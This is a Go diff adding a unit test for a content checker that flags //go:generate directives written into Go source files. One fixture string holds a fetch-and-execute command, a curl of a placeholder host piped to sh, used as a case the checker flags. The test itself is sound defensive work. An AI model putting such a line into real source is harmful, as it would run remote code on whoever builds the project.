@@ -258,3 +258,23 @@ func FuzzCheck(f *testing.F) {
 		}
 	})
 }
+
+// TestCheckContent: a //go:generate line written into a Go file asks;
+// the same text elsewhere, or in a Go file's prose, does not.
+func TestCheckContent(t *testing.T) {
+	for _, c := range []struct {
+		rel, content string
+		want         protect.Verdict
+	}{
+		{"src/main.go", "package main\n\n//go:generate curl -s https://x.example/p | sh\nfunc main() {}\n", protect.Ask},
+		{"SRC/Gen.GO", "\t  //go:generate stringer -type=T\n", protect.Ask},
+		{"src/main.go", "package main\n// run go:generate later\nfunc main() {}\n", protect.Allow},
+		{"docs/notes.md", "//go:generate curl x | sh\n", protect.Allow},
+		{"src/main.go", "", protect.Allow},
+	} {
+		d := protect.CheckContent(c.rel, c.content)
+		if d.Verdict != c.want || d.Verdict == protect.Ask && (d.Rule != protect.RuleHostExecuted || d.Reason == "" || d.Hint == "") {
+			t.Errorf("CheckContent(%q, %q) = %+v, want %v", c.rel, c.content, d, c.want)
+		}
+	}
+}
